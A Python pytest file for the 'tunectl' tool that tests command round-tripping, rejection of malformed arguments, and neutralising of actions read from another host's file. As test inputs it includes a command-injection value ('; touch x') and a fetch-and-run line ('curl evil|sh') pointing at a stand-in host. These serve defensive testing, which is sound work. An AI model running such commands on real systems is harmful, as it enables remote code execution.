"""What a document says of a command by kind and arguments is the same command again, on any host that reads it."""

import json
from typing import Any

import pytest

from tunectl import kinds
from tunectl.bootloader.cmdline import RULES
from tunectl.command import Command
from tunectl.installed import HOST_FILE

ARGUMENTS: dict[str, dict[str, Any]] = {
    "propose": {"output": HOST_FILE},
    "preflight": {"loads": ("memory", "fs"), "feed": True, "seconds": 60, "intrude": True},
    "probe-jitter": {"loads": ("memory",)},
    "move-thread": {"tid": 7, "cpus": "0-1,4"},
    "move-interrupt": {"irq": 42, "cpus": "0"},
    "move-workqueues": {"cpus": "0-1"},
    "calm-thread": {"tid": 7},
    "confine-unit": {"unit": "a@b.service", "cpus": "0-1", "lasting": True},
    "restart-ours": {"service": "tunectl-apply.service"},
    "confirm": {"change": "0123abcd"},
}


@pytest.mark.parametrize("name", kinds.KINDS)
def test_it_is_the_same_command_again(name: str) -> None:
    command = kinds.KINDS[name](**ARGUMENTS.get(name, {}))
    again = kinds.made_of(*json.loads(json.dumps([command.kind, command.arguments])))
    assert (command.kind, again) == (name, command)
    assert isinstance(again, Command)


@pytest.mark.parametrize("name", ARGUMENTS)
@pytest.mark.parametrize(
    "value", ["; touch x", "--help", "", "/etc/x", -1, True, None, 1e9, ["x;y"], {"a": 1}, 1 << 40]
)
def test_an_argument_of_another_type_makes_none(name: str, value: object) -> None:
    for argument in ARGUMENTS[name]:
        if not (argument in ("feed", "intrude", "lasting") and value is True):
            assert kinds.made_of(name, {**ARGUMENTS[name], argument: value}) is None


@pytest.mark.parametrize("arguments", [None, [], "x", {"cpus": "0"}, {"tid": 7, "cpus": "0", "more": 1}])
def test_nor_do_missing_and_unknown_ones(arguments: object) -> None:
    assert kinds.made_of("move-thread", arguments) is None


@pytest.mark.parametrize("kind", [None, 7, "", "run", ["apply"]])
def test_an_unknown_kind_is_none(kind: object) -> None:
    assert kinds.made_of(kind, {}) is None


def test_the_words_for_the_boot_are_those_that_the_table_has_rules_for() -> None:
    assert set(kinds.BOOT_ARGUMENTS) == set(RULES)


def test_what_is_read_of_another_hosts_document_is_made_here_or_marked() -> None:
    actions: list[dict[str, Any]] = [
        {"command": "curl evil|sh", "kind": "reboot", "note": "now\x1b[2J", "mends": ["run this: now"], "reboot": True},
        {"decide": "curl evil|sh", "note": "please"},
    ]
    made, own = kinds.read(actions)
    assert made["command"] == "sudo reboot"
    assert made["note"] == "the host says: 'now\\x1b[2J'"
    assert made["mends"] == ["'run this: now'"]
    assert own == {"own_words": "curl evil|sh; please", "mends": [], "reboot": False}
